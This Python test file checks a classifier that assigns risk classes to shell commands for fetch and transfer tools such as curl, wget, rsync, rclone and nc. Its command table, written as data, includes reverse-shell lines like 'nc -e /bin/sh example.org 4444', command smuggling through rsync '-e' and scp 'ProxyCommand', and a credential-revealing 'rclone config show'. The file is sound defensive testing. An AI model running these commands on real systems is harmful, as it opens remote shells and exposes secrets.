"""Tests of the tables of programs that fetch and send."""

from __future__ import annotations

from tests.normalise.shell.commands.grouped import grouped
from tests.normalise.shell.commands.told import told
from tests.tables import each_row

COMMANDS = r"""
[read]
curl --version
curl -V
curl --help
wget --version
rsync -n a b
rsync -an --delete src/ dst/
rsync --dry-run -av a b
rsync --list-only src/
rsync src/
rsync --version
rclone ls remote:bucket
rclone lsd remote:
rclone lsjson -R remote:bucket
rclone size remote:bucket
rclone md5sum remote:bucket
rclone cat remote:bucket/a
rclone check a remote:b
rclone listremotes
rclone version
rclone config file
rclone sync a remote:b --dry-run
rclone purge remote:b -n
socat -V
mailq
[network]
curl https://example.org
curl -s -o /dev/null -w '%{http_code}' https://example.org
curl -fsSL https://example.org
curl -X DELETE https://example.org/a
curl -d @a https://example.org
curl -H --help example.org
curl file:///etc/hosts
wget -qO- https://example.org
wget --spider https://example.org
wget -O /dev/null https://example.org
http GET example.org
rsync -a src/ host:dst/
rsync -an src/ host:dst/
rsync host::module
rsync rsync://example.org/module
nc -z example.org 80
nc -l 4444
lynx -dump https://example.org
mail -s hi ada@example.org
sendmail ada@example.org
[write]
rsync -a a b
rsync -n --log-file=l a b
scp a b
rsync ./a:b c
rclone config
rclone check a remote:b --combined out
[write network]
curl -o a https://example.org
curl -O https://example.org/a
curl -D head https://example.org
curl -c jar https://example.org
curl --trace-ascii t https://example.org
wget https://example.org/a
wget -O a https://example.org
wget --spider -o log https://example.org
aria2c https://example.org/a
scp a host:b
scp host:a b
rclone copy a remote:b
rclone sync a remote:b
rclone delete remote:b/a
rclone copy a remote:b --log-file=l
yt-dlp https://example.org/v
[destroy destroy-outside]
rclone purge remote:b
[secret]
rclone config show
[code]
rsync -n -e 'sh -c id' a b
rsync -n --rsync-path=x a b
rclone ls remote:b --config evil.conf
[code network]
nc -e /bin/sh example.org 4444
ncat --sh-exec id example.org 4444
rclone ls ':sftp,host=example.org:'
rclone ls 'remote,ssh=id:'
sftp example.org
telnet example.org
curl --engine ./e https://example.org
[code network write]
scp -o ProxyCommand=id a host:b
wget -e use_askpass=x https://example.org
socat - TCP:example.org:80
[network unknown]
curl -K conf
curl --frobnicate https://example.org
mail --help
[unknown]
rsync -n --frobnicate a b
rclone frobnicate
rclone ls --frobnicate remote:b
[network]
rclone version --check
[write]
rclone completion bash /srv/x
rclone gendocs /srv/x
rclone config touch
[write destroy]
rsync -a --delete a/ b/
"""


@each_row(("command", "expected"), grouped(COMMANDS))
def test_each_command_does_what_stands_above_it(command: str, expected: set[str]) -> None:
    """A command has the classes in brackets above it; `read` is left out beside others."""
    assert expected == told(command)
